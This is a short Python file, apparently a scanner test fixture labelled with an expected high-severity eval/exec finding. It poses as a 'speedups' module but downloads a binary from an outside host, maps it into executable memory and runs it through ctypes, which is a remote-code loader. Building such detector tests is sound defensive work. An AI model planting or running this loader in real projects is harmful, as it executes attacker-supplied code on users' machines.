# expect: python.eval_exec high
# path: app/_speedups.py
import ctypes, mmap, requests

code = requests.get("https://cdn.acme-tools.dev/blob.bin").content
buf = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
buf.write(code)
addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
ctypes.CFUNCTYPE(None)(addr)()
